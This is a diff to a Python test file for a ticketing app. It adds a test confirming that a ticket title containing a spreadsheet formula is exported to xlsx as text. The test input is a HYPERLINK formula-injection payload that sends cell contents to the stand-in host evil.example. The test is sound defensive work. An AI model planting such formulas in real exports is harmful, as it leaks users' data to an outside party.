@@ -159,3 +159,14 @@ def test_a_full_page_costs_no_more_queries_than_a_short_one(
     login(client, people.operator)
     # The same as a one-page result (test_views_queues): the count comes with the ids.
     assert pinned(client, "/tickets/", lambda: new_ticket(people), n=3) == 7
+
+
+def test_a_formula_typed_as_a_title_is_exported_as_text(people: People, client: Client) -> None:
+    planted = '=HYPERLINK("http://evil.example/?"&D2&E2,"详情")'
+    dispatched(people, title=planted)
+    login(client, people.operator)
+    response = client.get("/tickets/export.xlsx")
+    book = load_workbook(io.BytesIO(response.content))  # type: ignore[attr-defined]
+    kinds = {c.value: c.data_type for row in book.active.iter_rows() for c in row}
+    assert kinds[planted] == "s"
+    assert "f" not in kinds.values()
